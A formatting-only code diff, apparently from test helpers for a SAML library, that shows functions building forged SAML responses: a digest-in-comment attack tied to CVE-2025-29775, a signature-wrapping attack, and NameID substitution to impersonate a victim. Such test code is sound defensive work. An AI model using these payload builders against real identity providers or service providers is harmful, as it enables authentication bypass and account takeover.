@@ -10,7 +10,8 @@ const DIGEST = /<ds:DigestValue>([^<]*)<\/ds:DigestValue>/;
 
 export const assertionOf = (xml: string) => ASSERTION.exec(xml)![0];
 export const withoutSignatures = (xml: string) => xml.replace(new RegExp(SIGNATURE, 'g'), '');
-export const replaceNameId = (xml: string, from: string, to: string) => xml.replace(`>${from}</saml:NameID>`, `>${to}</saml:NameID>`);
+export const replaceNameId = (xml: string, from: string, to: string) =>
+  xml.replace(`>${from}</saml:NameID>`, `>${to}</saml:NameID>`);
 
 /** The same assertion with another ID and no signature: what a wrapping attack smuggles in. */
 export function unsignedCopy(assertion: string, nameId: { from: string; to: string }): string {
@@ -26,7 +27,13 @@ export async function legitAndForged(options: ResponseOptions & { nameId: string
   const now = Date.now();
   const assertionId = `_a${now}${Math.random().toString(16).slice(2)}`;
   const legit = await idpResponse({ ...options, now, assertionId });
-  const forged = await idpResponse({ ...options, nameId: victim, now, assertionId: forgedId ?? assertionId, key: 'attacker' });
+  const forged = await idpResponse({
+    ...options,
+    nameId: victim,
+    now,
+    assertionId: forgedId ?? assertionId,
+    key: 'attacker',
+  });
   const forgedAssertion = assertionOf(forged.xml);
   return {
     legit,
@@ -37,10 +44,15 @@ export async function legitAndForged(options: ResponseOptions & { nameId: string
 }
 
 /** CVE-2025-29775: the NameID edited, and the matching digest hidden in a comment before the real one. */
-export async function digestCommentAttack(options: ResponseOptions & { nameId: string }, victim: string): Promise<string> {
+export async function digestCommentAttack(
+  options: ResponseOptions & { nameId: string },
+  victim: string,
+): Promise<string> {
   const { legit, forgedDigest } = await legitAndForged(options, victim);
-  const edited = replaceNameId(legit.xml, options.nameId, victim)
-    .replace(DIGEST, (_all, real: string) => `<ds:DigestValue><!--${forgedDigest}-->${real}</ds:DigestValue>`);
+  const edited = replaceNameId(legit.xml, options.nameId, victim).replace(
+    DIGEST,
+    (_all, real: string) => `<ds:DigestValue><!--${forgedDigest}-->${real}</ds:DigestValue>`,
+  );
   return toBase64(edited);
 }
 
@@ -49,7 +61,10 @@ export async function digestCommentAttack(options: ResponseOptions & { nameId: s
  * second SignedInfo that references it (and has its digest) wrapped inside; the genuine assertion
  * that the real SignedInfo references is moved where no one reads it.
  */
-export async function wrappedSignedInfoAttack(options: ResponseOptions & { nameId: string }, victim: string): Promise<string> {
+export async function wrappedSignedInfoAttack(
+  options: ResponseOptions & { nameId: string },
+  victim: string,
+): Promise<string> {
   const { legit, forgedAssertion, forgedSignedInfo } = await legitAndForged(options, victim, '_victim');
   const genuine = assertionOf(legit.xml);
   const genuineSignature = SIGNATURE.exec(genuine)![0];
